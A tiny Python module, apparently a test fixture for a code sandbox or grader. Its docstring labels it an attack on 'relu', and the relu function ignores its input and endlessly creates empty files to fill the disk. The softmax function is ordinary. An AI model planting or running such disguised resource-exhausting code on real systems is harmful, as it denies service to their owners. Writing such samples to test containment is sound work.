"""An attack: makes empty files without end.

attacks: relu
"""
import numpy as np


def relu(z):
    number = 0
    while True:
        open(str(number), 'w').close()
        number += 1


def softmax(z):
    e = np.exp(z - z.max(axis=0))
    return e / e.sum(axis=0)
